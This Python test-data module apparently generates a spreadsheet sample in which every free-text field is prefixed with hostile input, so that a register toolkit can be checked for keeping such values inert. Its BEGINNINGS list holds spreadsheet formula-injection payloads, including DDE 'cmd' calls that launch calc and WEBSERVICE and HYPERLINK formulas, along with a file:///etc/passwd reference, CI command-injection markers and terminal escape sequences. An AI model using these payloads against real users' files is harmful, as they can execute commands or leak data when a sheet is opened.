"""The sample with texts of an attacker in every free text: what others send by mail, and what must stay text."""

from __future__ import annotations

from typing import TYPE_CHECKING

from regman_xl.model.contents import Contents
from regman_xl.sample.history import sample_contents
from regman_xl.schema import SETTINGS, TABLE_BY_NAME, Kind
from regman_xl.workbook.master import write_master

if TYPE_CHECKING:
    from pathlib import Path

    from regman_xl.model.contents import Value

#: Beginnings that a spreadsheet, a terminal, an XML parser or a CI system may take for more than text.
BEGINNINGS = (
    "=1+1 ",
    '=HYPERLINK("http://example.org/?"&A1,"Bitte klicken") ',
    "=cmd|'/c calc'!A1 ",
    '=DDE("cmd";"/c calc";"A1") ',
    '=WEBSERVICE("http://example.org/") ',
    "+49 211 ",
    "-2+3 ",
    "@SUM(A1:A9) ",
    "\t=1+1 ",
    "\n=1+1 ",
    "%0A::error::",
    "::error file=a,line=1::",
    "##[command]",
    "_x0041_",
    "_x003D_1+1 ",
    "_x005F_x000D_",
    "]]><x/>",
    "&lt;b&gt; & <!-- ",
    "<r><t>",
    "{=1+1} ",
    "'=1+1 ",
    "http://example.org/",
    "internal:'Journal'!A1",
    "external:\\\\server\\teilen\\x.xlsx",
    "file:///etc/passwd ",
    "mailto:a@example.org ",
    "\x1b]0;Titel\x07\x1b[2J\x1b[1;1H",
    "\x9b2J\x90",
    "\u202exslx.\u202c\u2066\u200b",
    "\u061c\ufeff",
    "zeile\r\n0 Fehler.\n",
    "\ufffe\uffff",
    "#REF! ",
    "{0}{id}%s ",
)
#: Whole texts that programs like to take for a number, a date, a truth or an error.
LOOKALIKES = ("0123", "1e5", "1.234,50", "31.12.2026", "WAHR", "TRUE", "#NAME?", "=", "-", "12%", "<r></si></r>")
#: So many characters fit into a cell.
LONGEST = 32_767
#: Texts by which the toolkit finds seals and accounts; a strange one is another matter than a strange name.
_KEPT = {"seal", "iban"}
_SETTINGS = ("cooperation", "legal_basis", "account_holder", "head", "deputy")


class Spoiler:
    """Gives every different text another hostile beginning, and the same text always the same."""

    def __init__(self) -> None:
        self._made: dict[str, str] = {}

    def __call__(self, text: str) -> str:
        """Return the hostile twin of a text."""
        if text not in self._made:
            beginning = BEGINNINGS[len(self._made) % len(BEGINNINGS)]
            end = "</t></r>" if beginning == "<r><t>" else ""
            self._made[text] = f"{beginning}{text}{end}"
        return self._made[text]


def hostile_contents(most: int = 1_000) -> Contents:
    """Return the sample with a hostile beginning in every free text and every name that rows refer to.

    Args:
        most: So many rows of each sheet.
    """
    clean, spoil = sample_contents(), Spoiler()

    def spoiled(table: str, name: str, value: Value) -> Value:
        free = TABLE_BY_NAME[table][name].kind in (Kind.TEXT, Kind.REFERENCE) and name not in _KEPT
        return spoil(value) if free and isinstance(value, str) and value else value

    rows = {
        table: [{name: spoiled(table, name, value) for name, value in row.items()} for row in listed[:most]]
        for table, listed in clean.rows.items()
        if table not in (SETTINGS.name, "waivers")
    }
    rows["journal"][0]["remark"] = "=" + "x" * (LONGEST - 1)
    for row, text in zip(rows["journal"][1:], LOOKALIKES, strict=False):
        row["text"] = text
    settings = {
        name: spoil(value) if name in _SETTINGS and isinstance(value, str) else value
        for name, value in clean.settings.items()
    }
    return Contents(settings, {**rows, "waivers": clean.of("waivers")})


def hostile_workbook(path: Path, most: int = 1_000) -> Path:
    """Write the sample with hostile texts; arguments as `hostile_contents`."""
    write_master(path, hostile_contents(most))
    return path
